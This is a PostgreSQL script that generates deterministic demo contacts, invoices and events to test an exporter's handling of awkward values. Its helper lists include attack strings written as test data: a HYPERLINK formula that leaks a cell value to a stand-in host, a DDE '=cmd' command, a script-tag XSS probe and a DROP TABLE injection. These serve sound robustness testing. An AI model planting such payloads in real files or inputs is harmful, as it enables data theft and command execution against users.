-- exportd demo data: generator.
--
--   psql -v ON_ERROR_STOP=1 [-v rows=N] [-v workspace=W] [-v batch=B] \
--        -f sql/demo/generate.sql
--
-- Appends N contacts, N invoices and N events (default N = 100000) to
-- workspace W (default 'demo').  Run it once per workspace to get several
-- tenants; running it twice for the same workspace appends a second,
-- identical copy (new ids).  Requires sql/demo/schema.sql.
--
-- Deterministic: every value is a function of the row number n = 1..N (no
-- random()), so two runs with the same N and B produce the same data apart
-- from the ids.  contact_id always points at a contact created by the same
-- run (same workspace), taken from the ids the INSERT returned, so parallel
-- runs for different workspaces are safe.
-- Set-based: INSERT ... SELECT FROM generate_series, committed every B rows
-- (default 1000000) so that memory, locks and WAL stay bounded at 10M rows.
--
-- Most rows look like ordinary data, but the values an exporter must survive
-- are spread through every table (each kind occurs in every few hundred rows):
-- commas, double quotes, CR / LF / CRLF inside values, tabs, non-ASCII UTF-8
-- (é ü 漢字 😀, RTL text, combining marks, BOM, U+2028), values starting with
-- = + - @ (spreadsheet formula injection), SQL NULL vs '' vs 'NULL' vs '\N',
-- leading/trailing spaces, long values, numerics at the limits of their
-- precision and negative, -0 / NaN / ±Infinity doubles, 'infinity' dates,
-- timestamps with microseconds and with whole seconds, text[] with awkward
-- elements, inet, uuid, jsonb scalars / arrays / nested objects / unicode.

\set QUIET on
\set ON_ERROR_STOP on

\if :{?rows}
\else
\set rows 100000
\endif
\if :{?workspace}
\else
\set workspace demo
\endif
\if :{?batch}
\else
\set batch 1000000
\endif

-- Bulk-load friendly session settings (this session only).
SET synchronous_commit = off;
SET client_min_messages = notice;

-- Checks with a readable message (and a non-zero exit under ON_ERROR_STOP).
SET exportd_demo.rows = :'rows';
SET exportd_demo.workspace = :'workspace';
SET exportd_demo.batch = :'batch';
DO $check$
BEGIN
    IF current_setting('exportd_demo.rows') !~ '^[0-9]+$' THEN
        RAISE EXCEPTION 'rows must be a non-negative integer, not "%"',
            current_setting('exportd_demo.rows');
    END IF;
    IF current_setting('exportd_demo.batch') !~ '^[1-9][0-9]*$' THEN
        RAISE EXCEPTION 'batch must be a positive integer, not "%"',
            current_setting('exportd_demo.batch');
    END IF;
    IF current_setting('exportd_demo.workspace') = '' THEN
        RAISE EXCEPTION 'workspace must not be empty';
    END IF;
    IF current_setting('server_encoding') <> 'UTF8' THEN
        RAISE EXCEPTION 'the demo data is UTF-8; database encoding is %',
            current_setting('server_encoding');
    END IF;
    IF to_regclass('public.contacts') IS NULL OR to_regclass('public.invoices') IS NULL
       OR to_regclass('public.events') IS NULL THEN
        RAISE EXCEPTION 'demo tables missing: run sql/demo/schema.sql first';
    END IF;
END
$check$;

-- ---------------------------------------------------------------------------
-- Helpers (temporary: they vanish with the session, nothing is left behind).
-- ---------------------------------------------------------------------------

-- The awkward text values, 0-based, 39 of them.  Inlined by the planner.
CREATE FUNCTION pg_temp.demo_awkward(i bigint) RETURNS text
LANGUAGE sql IMMUTABLE AS $f$
SELECT (ARRAY[
    E'First line\nsecond line',                                  -- LF
    E'First line\r\nsecond line',                                -- CRLF
    E'Old Mac line\rsecond line',                                -- lone CR
    E'Trailing newline\n',
    E'\nLeading newline',
    E'Mixed\r\nline\nendings\r',
    'He said "hello", then left.',
    '"Fully quoted"',
    '""',
    ',',
    'a,b,c,,,',
    '=1+2',                                                      -- formula injection
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
    E'=cmd|'' /C calc''!A0',
    '+SUM(1,2)',
    '-2+3',
    '@SUM(A1:A2)',
    E'\t=1+2',                                                   -- tab, then formula
    '  leading and trailing spaces  ',
    ' ',
    '',                                                          -- empty, not NULL
    'NULL',                                                      -- the word, not NULL
    E'\\N',                                                      -- COPY's null marker
    E'C:\\Users\\demo\\file.csv',
    'Café crème, naïve façade, Größe, Ærøskøbing',
    '漢字とひらがなとカタカナのメモ',
    'Great call 😀👍🎉',
    'مرحبا بالعالم',                                               -- right-to-left
    E'Cafe\u0301 with a combining accent',
    E'zero\u200Bwidth space and no\u00A0break space',
    E'\uFEFFstarts with a byte-order mark',
    E'line\u2028separator and paragraph\u2029separator',
    E'tab\tinside',
    repeat('Lorem ipsum dolor sit amet, "consectetur" adipiscing elit. ', 200),
    E'Everything at once: "quotes", commas,\r\nCRLF, tabs\t, ü, 漢字, 😀 and =1',
    E'<script>alert("x")</script> & <b>html</b>',
    'Robert''); DROP TABLE students;--',
    E'ends with a backslash \\',
    '''single quotes'''
])[1 + i]
$f$;

-- Awkward jsonb payloads, 0-based, 14 of them.
CREATE FUNCTION pg_temp.demo_awkward_json(i bigint) RETURNS jsonb
LANGUAGE sql IMMUTABLE AS $f$
SELECT (ARRAY[
    'null',                                                      -- JSON null, not SQL NULL
    '{}',
    '[]',
    '"just a string, with a comma and \"quotes\""',
    '12345678901234567890.12345678901234567890',
    '-0.000000000000000000001',
    'true',
    '{"msg": "Grüße aus Zürich 😀", "ключ": "значение", "漢字": ["か", "な"], "emoji 😀 key": 1}',
    '{"quote": "say \"hi\"", "lf": "line1\nline2", "crlf": "a\r\nb", "cr": "a\rb", "tab": "a\tb", "backslash": "C:\\path\\file", "control": "\u0001\u001f", "seps": "\u2028\u2029", "html": "</script>"}',
    '{"cell": "=1+2", "plus": "+1", "minus": "-1", "at": "@SUM(A1)", "csv": "a,b,\"c\"", "spaces": "  x  ", "empty": ""}',
    '{"a": {"b": {"c": {"d": {"e": [1, [2, [3, {"f": null, "g": [true, false, {}]}]]]}}}}}',
    '{"big": 1e300, "small": 1e-300, "neg": -123456789012345678901234567890, "int": 9223372036854775807, "pi": 3.14159265358979323846264338327950288}',
    '{"": "empty key", " ": "space key", "a,b": "comma key", "\"q\"": "quoted key"}',
    '[1, "two", null, {"three": 3}, [4], -0.5, "ü"]'
]::jsonb[])[1 + i]
$f$;

-- Microseconds to interval (exact for the magnitudes used here).
CREATE FUNCTION pg_temp.demo_us(us bigint) RETURNS interval
LANGUAGE sql IMMUTABLE AS $f$ SELECT us * interval '1 microsecond' $f$;

-- ---------------------------------------------------------------------------
-- The generator.  One transaction per batch (COMMIT inside a procedure).
-- ---------------------------------------------------------------------------
CREATE PROCEDURE pg_temp.demo_generate(ws text, total bigint, batch bigint)
LANGUAGE plpgsql AS $proc$
DECLARE
    lo   bigint := 1;
    hi   bigint;
    ids  bigint[];       -- ids of the contacts of the current batch, in row order
    nc   bigint;
    t0   timestamptz := clock_timestamp();
    t1   timestamptz;
BEGIN
    WHILE lo <= total LOOP
        hi := least(lo + batch - 1, total);
        t1 := clock_timestamp();

        -- contacts ----------------------------------------------------------
        WITH c AS (
            INSERT INTO public.contacts
                (workspace, first_name, last_name, email, phone, company,
                 job_title, city, country, tags, notes, score, is_active,
                 birthday, created_at, updated_at, deleted_at)
            SELECT
                ws,
                -- first_name
                CASE WHEN n % 211 = 0 THEN NULL
                     WHEN n % 223 = 0 THEN ''
                     WHEN n % 227 = 0 THEN '  ' || fn || '  '
                     ELSE fn END,
                -- last_name
                CASE WHEN n % 229 = 0 THEN NULL
                     WHEN n % 233 = 0 THEN ''
                     WHEN n % 239 = 0 THEN ln || ', Jr.'
                     WHEN n % 241 = 0 THEN '"' || ln || '"'
                     ELSE ln END,
                -- email
                CASE WHEN n % 97 = 50 THEN NULL
                     WHEN n % 101 = 70 THEN ''
                     WHEN n % 503 = 250 THEN '@' || fa
                     WHEN n % 509 = 300 THEN ' ' || upper(fa) || '@EXAMPLE.COM '
                     WHEN n % 521 = 400 THEN 'josé.müller' || n || '@exämple.de'
                     WHEN n % 23 = 0 THEN fa || '+news' || n || '@' || dom
                     ELSE fa || '.' || la || n || '@' || dom END,
                -- phone
                CASE WHEN n % 419 = 0 THEN ''
                     WHEN n % 421 = 0 THEN '+1 555 0100 ext. 12, ask for "Bob"'
                     WHEN n % 617 = 0 THEN '-555-0100 (fax)'
                     ELSE CASE n % 8
                        WHEN 0 THEN '+1 555-' || lpad((n % 10000)::text, 4, '0')
                        WHEN 1 THEN '+44 20 7946 ' || lpad((n % 1000)::text, 4, '0')
                        WHEN 2 THEN '(555) 01' || lpad((n % 100)::text, 2, '0')
                        WHEN 3 THEN '555-' || lpad((n % 10000)::text, 4, '0')
                        WHEN 4 THEN NULL
                        WHEN 5 THEN '+49 (0)30 ' || (1000000 + n % 9000000)
                        WHEN 6 THEN '+33 1 23 45 ' || lpad((n % 100)::text, 2, '0')
                        ELSE '0049 30 ' || lpad((n % 1000000)::text, 6, '0')
                     END END,
                -- company
                CASE WHEN (n * 3 + 100) % 211 < 12 THEN (ARRAY[
                        '=SUM(A1:A10)',
                        '=HYPERLINK("http://example.invalid","Click")',
                        '+Plus Consulting',
                        '-Minus Holdings',
                        '@Mention Labs',
                        '"Quoted" & Sons Ltd',
                        ' Leading Space Co',
                        'Trailing Space Co ',
                        '',
                        E'Tab\tSeparated GmbH',
                        E'Two\r\nLines Inc.',
                        'Ünïcödé 株式会社 😀'])[1 + (n * 3 + 100) % 211]
                     WHEN n % 17 = 0 THEN NULL
                     ELSE (ARRAY[
                        'Acme Corp', 'Globex, Inc.', 'Initech', 'Umbrella Corporation',
                        'Stark Industries', 'Wayne Enterprises', 'Hooli', 'Vandelay Industries',
                        'Müller & Söhne GmbH', '株式会社サンプル', 'Société d''Exemple SARL',
                        'Pied Piper', 'Soylent Corp', 'Wonka Industries', 'Cyberdyne Systems',
                        'Tyrell Corp'])[1 + n % 16]
                END,
                -- job_title
                (ARRAY['CEO', 'CTO', 'CFO', 'VP Sales', 'Account Executive',
                       'Software Engineer', 'Software Engineer', 'Product Manager',
                       'Head of R&D', 'Director, EMEA', 'Responsable des achats',
                       'Geschäftsführer', 'Office Manager', 'Consultant',
                       'Marketing Lead', NULL, NULL, ''])[1 + (n / 3) % 18],
                -- city, country
                CASE WHEN n % 61 = 0 THEN NULL
                     WHEN n % 67 = 0 THEN ''
                     WHEN n % 71 = 0 THEN ' ' || city || ' '
                     ELSE city END,
                CASE WHEN n % 61 = 0 THEN NULL ELSE cc END,
                -- tags
                CASE n % 10
                    WHEN 0 THEN NULL
                    WHEN 1 THEN '{}'::text[]
                    WHEN 2 THEN ARRAY['vip']
                    WHEN 3 THEN ARRAY['lead', 'newsletter']
                    WHEN 4 THEN ARRAY['customer']
                    WHEN 5 THEN ARRAY['partner', 'b2b']
                    WHEN 6 THEN ARRAY['lead']
                    WHEN 7 THEN ARRAY['newsletter']
                    WHEN 8 THEN ARRAY['customer', 'vip']
                    ELSE CASE (n / 10) % 4
                        WHEN 0 THEN ARRAY['b2b, enterprise', 'say "hi"']
                        WHEN 1 THEN ARRAY['ü', '漢字', '😀']
                        WHEN 2 THEN ARRAY[NULL, 'x', 'NULL']
                        ELSE ARRAY['', ' ', E'back\\slash', E'new\nline', '{brace}']
                    END
                END,
                -- notes: ~13% awkward, ~33% NULL, the rest ordinary
                CASE WHEN (n * 7 + 150) % 307 < 39 THEN pg_temp.demo_awkward((n * 7 + 150) % 307)
                     WHEN (n * 7 + 150) % 307 < 139 THEN NULL
                     ELSE (ARRAY['Met at the trade fair.', 'Prefers email.',
                                 'Call back next week.', 'Interested in the enterprise plan.',
                                 'Referred by a partner.', 'Asked for a quote.',
                                 'Newsletter subscriber.', 'Renewal due in Q3.',
                                 'VIP customer.', 'Left a voicemail.', 'Requested a demo.',
                                 'Churn risk: low.'])[1 + n % 12]
                END,
                -- score numeric(12,4)
                CASE WHEN n % 89 = 0 THEN NULL
                     WHEN n % 1009 = 503 THEN 99999999.9999
                     WHEN n % 1013 = 505 THEN -99999999.9999
                     WHEN n % 1019 = 507 THEN 0
                     WHEN n % 1021 = 509 THEN 0.0001
                     WHEN n % 1031 = 511 THEN -0.0001
                     WHEN n % 97 = 41 THEN -(((n * 7919) % 1000000) / 10000.0)
                     ELSE ((n * 7919) % 1000000) / 10000.0 END,
                -- is_active
                CASE WHEN n % 13 = 0 THEN NULL WHEN n % 5 = 0 THEN false ELSE true END,
                -- birthday
                CASE WHEN n % 3 = 0 THEN NULL
                     WHEN n % 997 = 500 THEN date '2000-02-29'
                     WHEN n % 991 = 600 THEN date '1900-01-01'
                     ELSE date '1950-01-01' + ((n * 7919) % 20000)::int END,
                -- created_at, updated_at, deleted_at
                ts,
                CASE WHEN n % 3 = 0 THEN NULL
                     WHEN n % 4 = 0 THEN ts + ((n * 7919) % 31536000) * interval '1 second'
                     ELSE ts + pg_temp.demo_us(((n * 7919) % 31536000) * 1000000 + n % 1000000) END,
                CASE WHEN n % 53 = 0 THEN ts + pg_temp.demo_us(3888000000000 + (n * 37) % 1000000)
                     ELSE NULL END
            FROM (
                SELECT n,
                       (ARRAY['James', 'Mary', 'Robert', 'Patricia', 'John', 'Jennifer',
                              'Michael', 'Linda', 'David', 'Elizabeth', 'William', 'Barbara',
                              'Richard', 'Susan', 'Joseph', 'Jessica', 'Thomas', 'Sarah',
                              'Charles', 'Karen', 'José', 'Zoë', 'Jürgen', 'Søren',
                              'François', 'Ana-María', 'Łukasz', 'Siobhán', '健太', 'Ольга'
                             ])[1 + n % 30] AS fn,
                       (ARRAY['james', 'mary', 'robert', 'patricia', 'john', 'jennifer',
                              'michael', 'linda', 'david', 'elizabeth', 'william', 'barbara',
                              'richard', 'susan', 'joseph', 'jessica', 'thomas', 'sarah',
                              'charles', 'karen', 'jose', 'zoe', 'juergen', 'soeren',
                              'francois', 'ana-maria', 'lukasz', 'siobhan', 'kenta', 'olga'
                             ])[1 + n % 30] AS fa,
                       (ARRAY['Smith', 'Johnson', 'Williams', 'Brown', 'Jones', 'Garcia',
                              'Miller', 'Davis', 'Rodriguez', 'Martinez', 'Hernandez', 'Lopez',
                              'Gonzalez', 'Wilson', 'Anderson', 'Thomas', 'Taylor', 'Moore',
                              'Jackson', 'Martin', 'O''Brien', 'Müller', 'Nguyễn', 'Smith-Jones',
                              'van der Berg', 'Øvergaard', 'Dvořák', '山田', 'Kowalczyk', 'Ndiaye'
                             ])[1 + (n / 30) % 30] AS ln,
                       (ARRAY['smith', 'johnson', 'williams', 'brown', 'jones', 'garcia',
                              'miller', 'davis', 'rodriguez', 'martinez', 'hernandez', 'lopez',
                              'gonzalez', 'wilson', 'anderson', 'thomas', 'taylor', 'moore',
                              'jackson', 'martin', 'obrien', 'mueller', 'nguyen', 'smith-jones',
                              'vanderberg', 'overgaard', 'dvorak', 'yamada', 'kowalczyk', 'ndiaye'
                             ])[1 + (n / 30) % 30] AS la,
                       (ARRAY['example.com', 'example.org', 'mail.example.net',
                              'exemple.fr', 'beispiel.de'])[1 + (n / 7) % 5] AS dom,
                       (ARRAY['New York', 'London', 'Paris', 'Zürich', 'São Paulo',
                              'München', 'Kraków', 'Montréal', 'Reykjavík', '東京',
                              'Москва', 'القاهرة', 'Mexico City', 'Sydney', 'Berlin',
                              'Madrid', 'Toronto', 'Chicago', 'Seoul', 'Dublin'
                             ])[1 + (n / 7) % 20] AS city,
                       (ARRAY['US', 'GB', 'FR', 'CH', 'BR', 'DE', 'PL', 'CA', 'IS', 'JP',
                              'RU', 'EG', 'MX', 'AU', 'DE', 'ES', 'CA', 'US', 'KR', 'IE'
                             ])[1 + (n / 7) % 20] AS cc,
                       -- ~3.1 s apart from 2021-01-01; every 4th on a whole second
                       timestamptz '2021-01-01 00:00:00+00'
                         + pg_temp.demo_us(CASE WHEN n % 4 = 0
                                                THEN n * 3123457 / 1000000 * 1000000
                                                ELSE n * 3123457 END) AS ts
                FROM generate_series(lo, hi) AS g(n)
            ) AS s
            RETURNING id
        )
        SELECT array_agg(id ORDER BY id) INTO ids FROM c;
        nc := cardinality(ids);

        -- invoices ----------------------------------------------------------
        INSERT INTO public.invoices
            (workspace, contact_id, number, amount, currency, tax_rate, status,
             line_count, issued_on, due_on, paid_at, memo, created_at,
             updated_at, deleted_at)
        SELECT
            ws,
            ids[1 + ((n - lo) * 7919) % nc],
            CASE WHEN status = 'credit' THEN 'CN-' ELSE 'INV-' END || lpad(n::text, 8, '0'),
            CASE WHEN status = 'draft' AND n % 2 = 0 THEN NULL
                 WHEN n % 1009 = 0 THEN 999999999999.99
                 WHEN n % 1013 = 0 THEN -999999999999.99
                 WHEN n % 1019 = 0 THEN 0.00
                 WHEN status = 'credit' THEN -round(((n * 104729) % 100000) / 100.0 + 1, 2)
                 ELSE round(((n * 104729) % 1000000) / 100.0 + 5, 2) END,
            (ARRAY['EUR', 'USD', 'GBP', 'JPY', 'CHF', 'SEK'])[1 + (n / 3) % 6],
            (ARRAY[0.0000, 0.0700, 0.1900, 0.2000, 0.0825, 0.0550])[1 + n % 6],
            status,
            1 + (n * 13) % 12,
            CASE WHEN status = 'draft' THEN NULL ELSE (ts AT TIME ZONE 'UTC')::date END,
            CASE WHEN status = 'draft' THEN NULL
                 WHEN n % 10007 = 7 THEN date 'infinity'
                 ELSE (ts AT TIME ZONE 'UTC')::date + (ARRAY[14, 30, 30, 60])[1 + n % 4] END,
            CASE WHEN status <> 'paid' THEN NULL
                 WHEN n % 4 = 0 THEN date_trunc('second', ts) + ((n * 7919) % 2592000) * interval '1 second'
                 ELSE ts + pg_temp.demo_us(((n * 7919) % 2592000) * 1000000 + (n * 31) % 1000000) END,
            CASE WHEN (n * 13 + 200) % 401 < 39 THEN pg_temp.demo_awkward((n * 13 + 200) % 401)
                 WHEN (n * 13 + 200) % 401 < 300 THEN NULL
                 ELSE (ARRAY['Thank you for your business.', 'Net 30.', 'PO #' || n,
                             'Payable by bank transfer.', 'Zahlbar innerhalb von 14 Tagen.',
                             'Merci de votre confiance.'])[1 + n % 6] END,
            ts,
            CASE WHEN n % 3 = 0 THEN NULL
                 ELSE ts + pg_temp.demo_us(((n * 104729) % 864000) * 1000000 + n % 1000000) END,
            CASE WHEN n % 71 = 0 THEN ts + interval '90 days' ELSE NULL END
        FROM (
            SELECT n,
                   CASE WHEN n % 37 = 0 THEN 'credit'
                        ELSE (ARRAY['paid', 'paid', 'paid', 'paid', 'paid', 'paid', 'paid',
                                    'paid', 'paid', 'paid', 'open', 'open', 'open', 'open',
                                    'draft', 'draft', 'void', 'uncollectible', 'paid', 'open'
                                   ])[1 + n % 20] END AS status,
                   timestamptz '2021-01-01 00:00:00+00'
                     + pg_temp.demo_us(CASE WHEN n % 4 = 0
                                            THEN n * 3123457 / 1000000 * 1000000
                                            ELSE n * 3123457 + 271828 END) AS ts
            FROM generate_series(lo, hi) AS g(n)
        ) AS s;

        -- events ------------------------------------------------------------
        INSERT INTO public.events
            (workspace, contact_id, kind, source, session_id, ip, payload,
             occurred_at, duration_ms, created_at, deleted_at)
        SELECT
            ws,
            CASE WHEN n % 10 = 0 THEN NULL ELSE ids[1 + ((n - lo) * 104729) % nc] END,
            kind,
            (ARRAY['web', 'web', 'ios', 'android', 'api', 'import'])[1 + (n / 3) % 6],
            CASE WHEN n % 13 = 0 THEN NULL ELSE md5('session ' || (n / 5))::uuid END,
            CASE WHEN n % 5 = 0 THEN NULL
                 WHEN n % 5 = 1 THEN ('2001:db8::' || to_hex(n % 65536))::inet
                 WHEN n % 997 = 500 THEN inet '192.168.100.7/24'
                 ELSE ('10.' || (n >> 16) % 256 || '.' || (n >> 8) % 256 || '.' || n % 256)::inet END,
            CASE WHEN (n * 11 + 100) % 211 = 14 THEN NULL
                 WHEN (n * 11 + 100) % 211 < 14 THEN pg_temp.demo_awkward_json((n * 11 + 100) % 211)
                 ELSE jsonb_build_object(
                        'v', 1,
                        'kind', kind,
                        'path', '/products/' || n % 5000,
                        'referrer', CASE n % 4 WHEN 0 THEN NULL
                                               WHEN 1 THEN 'https://www.example.com/search?q=a,b&x="y"'
                                               ELSE 'https://example.org/' END,
                        'utm', jsonb_build_object('source', (ARRAY['newsletter', 'google', 'partner'])[1 + n % 3],
                                                  'campaign', 'spring-' || n % 12),
                        'geo', jsonb_build_object('city', city, 'country', cc,
                                                  'lat', round((n % 18000) / 100.0 - 90, 4),
                                                  'lon', round((n % 36000) / 100.0 - 180, 4)),
                        'items', jsonb_build_array(n % 17, n % 23, 'sku-' || n % 101),
                        'ok', n % 9 <> 0) END,
            CASE WHEN n % 3 = 0 THEN date_trunc('second', ts) - (n % 3600) * interval '1 second'
                 ELSE ts - pg_temp.demo_us((n * 7919) % 3600000000) END,
            CASE (n * 17) % 499
                 WHEN 0 THEN NULL
                 WHEN 1 THEN 0
                 WHEN 2 THEN '-0'::float8
                 WHEN 3 THEN 'NaN'::float8
                 WHEN 4 THEN 'Infinity'::float8
                 WHEN 5 THEN '-Infinity'::float8
                 WHEN 6 THEN 1e-300::float8
                 WHEN 7 THEN 1.7976931348623157e308::float8
                 WHEN 8 THEN -12.5
                 WHEN 9 THEN 4.9e-324::float8
                 ELSE CASE WHEN n % 11 = 0 THEN NULL ELSE (n % 100000) / 7.0::float8 END END,
            ts,
            CASE WHEN n % 97 = 0 THEN ts + interval '400 days' ELSE NULL END
        FROM (
            SELECT n,
                   (ARRAY['page_view', 'page_view', 'page_view', 'page_view', 'email_open',
                          'email_click', 'login', 'logout', 'signup', 'purchase', 'api_call',
                          'error', 'custom:Événement spécial'])[1 + n % 13] AS kind,
                   (ARRAY['New York', 'London', 'Paris', 'Zürich', 'São Paulo',
                          'München', 'Kraków', 'Montréal', 'Reykjavík', '東京',
                          'Москва', 'القاهرة', 'Mexico City', 'Sydney', 'Berlin',
                          'Madrid', 'Toronto', 'Chicago', 'Seoul', 'Dublin'])[1 + (n / 7) % 20] AS city,
                   (ARRAY['US', 'GB', 'FR', 'CH', 'BR', 'DE', 'PL', 'CA', 'IS', 'JP',
                          'RU', 'EG', 'MX', 'AU', 'DE', 'ES', 'CA', 'US', 'KR', 'IE'
                         ])[1 + (n / 7) % 20] AS cc,
                   timestamptz '2021-01-01 00:00:00+00'
                     + pg_temp.demo_us(CASE WHEN n % 4 = 0
                                            THEN n * 1561729 / 1000000 * 1000000
                                            ELSE n * 1561729 + 141421 END) AS ts
            FROM generate_series(lo, hi) AS g(n)
        ) AS s;

        COMMIT;
        RAISE NOTICE 'workspace %: rows % .. % of % done (batch % s, total % s)',
            ws, lo, hi, total,
            round(extract(epoch FROM clock_timestamp() - t1), 1),
            round(extract(epoch FROM clock_timestamp() - t0), 1);
        lo := hi + 1;
    END LOOP;
END
$proc$;

\echo generating :rows rows per table for workspace :workspace (batch :batch)
CALL pg_temp.demo_generate(:'workspace', :'rows'::bigint, :'batch'::bigint);

\echo analyzing
ANALYZE public.contacts;
ANALYZE public.invoices;
ANALYZE public.events;
\echo done
